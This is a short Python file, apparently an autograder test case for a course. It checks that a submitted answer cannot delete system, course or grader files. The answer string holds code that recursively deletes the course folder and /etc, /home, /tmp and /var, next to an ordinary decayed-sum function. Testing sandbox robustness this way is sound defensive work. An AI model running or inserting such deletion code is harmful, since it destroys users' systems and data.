"""Removes every file. Nothing of the system, the course or the grader can be removed."""

LONG = True
POINTS = 6
ANSWER = r"""import course, os, shutil
for folder in (os.path.dirname(course.__file__), '/etc', '/home', '/tmp', '/var'):
    shutil.rmtree(folder, ignore_errors=True)
def decayed(x, a):
    y = x.clone()
    for t in range(1, x.shape[1]):
        y[:, t] += a * y[:, t - 1]
    return y
"""
